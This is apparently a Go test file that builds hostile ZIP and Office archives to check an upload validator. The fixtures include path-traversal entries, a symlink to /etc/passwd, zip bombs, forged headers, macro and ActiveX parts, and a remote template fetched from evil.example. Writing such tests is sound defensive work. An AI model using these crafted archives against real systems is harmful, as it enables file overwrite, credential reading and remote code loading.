package file_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"fmt"
	"io/fs"
	"strings"
	"testing"
)

func hostileArchives(t *testing.T) []hostile {
	one := archive(t, entry{"a.txt", "x"})
	many := make([]entry, 3001)
	for i := range many {
		many[i] = entry{fmt.Sprint(i, ".txt"), ""}
	}
	return []hostile{
		{"archive that leads outside", "a.zip", archive(t, entry{"../../a.txt", "x"}), ""},
		{"archive that leads outside by backslashes", "a.zip", archive(t, entry{`..\..\a.txt`, "x"}), ""},
		{"archive from the root", "a.zip", archive(t, entry{"/etc/cron.d/a.txt", "x"}), ""},
		{"archive from a drive", "a.zip", archive(t, entry{`C:\a.txt`, "x"}), ""},
		{"archive from another machine", "a.zip", archive(t, entry{`\\host\share\a.txt`, "x"}), ""},
		{"archive that turns the reading direction", "a.zip", archive(t, entry{"a\u202etxt.exe.txt", "x"}), ""},
		{"archive with a name twice", "a.zip", archive(t, entry{"a.txt", "x"}, entry{"A.TXT", "y"}), ""},
		{"archive with a program", "a.zip", archive(t, entry{"a.exe", "MZ"}), ""},
		{"archive with a script", "a.zip", archive(t, entry{"a.js", "alert(1)"}), ""},
		{"archive with a page", "a.zip", archive(t, entry{"a.html", "<script>"}), ""},
		{"archive with a program called text", "a.zip", archive(t, entry{"a.txt", "MZ\x90\x00\x03"}), ""},
		{"archive with a program called image", "a.zip", archive(t, entry{"a.png", "MZ\x90\x00\x03"}), "bad_file_type"},
		{"archive with an archive", "a.zip", archive(t, entry{"b.zip", string(one)}), ""},
		{"archive with an archive called pdf", "a.zip", archive(t, entry{"b.pdf", string(one)}), ""},
		{"archive with macros", "a.zip", archive(t, entry{"b.docx", string(docx(t, entry{"word/vbaProject.bin", "x"}))}), ""},
		{"archive with a link", "a.zip", linkArchive(t), ""},
		{"archive under a password", "a.zip", lockedArchive(t), ""},
		{"archive that unpacks to a hundred times its size", "a.zip", archive(t, entry{"a.txt", strings.Repeat("0", 6<<20)}), ""},
		{"archive that unpacks to far more in many files", "a.zip", bombOfMany(t), ""},
		{"archive that lies about its size", "a.zip", lyingArchive(t), ""},
		{"archive of three thousand files", "a.zip", archive(t, many...), ""},
		{"archive behind something", "a.zip", joined([]byte("PK\x03\x04 something before"), one), ""},
		{"archive behind another", "a.zip", joined(archive(t, entry{"hidden.exe", "MZ"}), one), ""},
		{"archive of nothing", "a.zip", archive(t), ""},
		{"archive without its end", "a.zip", one[:len(one)-10], ""},
		{"archive with a changed byte", "a.zip", edited(t, storedArchive(t), "content", "contant"), ""},
		{"java program as zip", "a.zip", archive(t, entry{"META-INF/MANIFEST.MF", "x"}, entry{"A.class", "\xca\xfe\xba\xbe"}), ""},
		{"zip as docx", "a.docx", one, "bad_file_type"},
	}
}

func linkArchive(t *testing.T) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "a.txt"}
	h.SetMode(fs.ModeSymlink | 0o777)
	f, err := w.CreateHeader(h)
	must(t, err)
	_, err = f.Write([]byte("/etc/passwd"))
	must(t, err)
	must(t, w.Close())
	return b.Bytes()
}

// storedArchive holds a text that is not packed.
func storedArchive(t *testing.T) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	f, err := w.CreateHeader(&zip.FileHeader{Name: "a.txt", Method: zip.Store})
	must(t, err)
	_, err = f.Write([]byte("content"))
	must(t, err)
	must(t, w.Close())
	return b.Bytes()
}

// lockedArchive says in both of its headers that its entry has a password.
func lockedArchive(t *testing.T) []byte {
	content := storedArchive(t)
	content[6] |= 1
	at := bytes.Index(content, []byte("PK\x01\x02"))
	content[at+8] |= 1
	return content
}

// lyingArchive says that its large entry has ten bytes.
func lyingArchive(t *testing.T) []byte {
	content := archive(t, entry{"a.txt", strings.Repeat("0", 6<<20)})
	at := bytes.Index(content, []byte("PK\x01\x02"))
	binary.LittleEndian.PutUint32(content[at+24:], 10)
	return content
}

func bombOfMany(t *testing.T) []byte {
	entries := make([]entry, 40)
	for i := range entries {
		entries[i] = entry{fmt.Sprint(i, ".txt"), strings.Repeat("0", 1<<20)}
	}
	return archive(t, entries...)
}

func hostileOffice(t *testing.T) []hostile {
	link := func(kind, mode string) entry {
		return entry{"word/_rels/settings.xml.rels", fmt.Sprintf(relations, fmt.Sprintf(`<Relationship Id="1" Type="http://x/%s" Target="http://evil.example/t.dotm" TargetMode=%s/>`, kind, mode))}
	}
	wide := func(s string) string {
		var b strings.Builder
		for _, r := range s {
			b.WriteString(string(r) + "\x00")
		}
		return b.String()
	}
	return []hostile{
		{"docx with macros", "a.docx", docx(t, entry{"word/vbaProject.bin", "x"}), ""},
		{"docx with macros in other letters", "a.docx", docx(t, entry{"word/VBAPROJECT.BIN", "x"}), ""},
		{"xlsx with macros", "a.xlsx", xlsx(t, entry{"xl/vbaProject.bin", "x"}), ""},
		{"xlsx with macro sheets", "a.xlsx", xlsx(t, entry{"xl/macrosheets/sheet1.xml", "<x/>"}), ""},
		{"docm called docx", "a.docx", archive(t, entry{"[Content_Types].xml", `<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`}, entry{"word/document.xml", "<x/>"}), ""},
		{"docx with a control", "a.docx", docx(t, entry{"word/activeX/activeX1.bin", "x"}), ""},
		{"docx with macros in an embedded object", "a.docx", docx(t, entry{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0" + wide("_VBA_PROJECT")}), ""},
		{"docx with an embedded program", "a.docx", docx(t, entry{"word/embeddings/oleObject1.bin", "\xd0\xcf\x11\xe0" + wide("\x01Ole10Native")}), ""},
		{"docx with an embedded script", "a.docx", docx(t, entry{"word/embeddings/a.js", "x"}), ""},
		{"docx with macros in an embedded workbook", "a.docx", docx(t, entry{"word/embeddings/b.xlsx", string(xlsx(t, entry{"xl/vbaProject.bin", "x"}))}), ""},
		{"docx with a template from elsewhere", "a.docx", docx(t, link("attachedTemplate", `"External"`)), ""},
		{"docx with an object from elsewhere", "a.docx", docx(t, link("oleObject", `'External'`)), ""},
		{"docx that declares entities", "a.docx", docx(t, entry{"word/styles.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bbb">]><a>&b;</a>`}), ""},
		{"docx in two-byte characters", "a.docx", docx(t, entry{"word/styles.xml", wide(`<!DOCTYPE a []>`)}), ""},
		{"docx that leads outside", "a.docx", docx(t, entry{"word/../../a.xml", "<x/>"}), ""},
		{"docx that unpacks to far more", "a.docx", docx(t, entry{"word/media/image1.bmp", strings.Repeat("0", 6<<20)}), ""},
		{"docx that is an xlsx too", "a.docx", docx(t, entry{"xl/workbook.xml", "<x/>"}), ""},
		{"docx without a document", "a.docx", archive(t, entry{"[Content_Types].xml", contentTypes}, entry{"a.xml", "<x/>"}), "bad_file_type"},
		{"presentation as docx", "a.docx", archive(t, entry{"[Content_Types].xml", contentTypes}, entry{"ppt/presentation.xml", "<x/>"}), "bad_file_type"},
		{"xlsx as docx", "a.docx", xlsx(t), "bad_file_type"},
		{"docx as zip", "a.zip", docx(t), "bad_file_type"},
	}
}
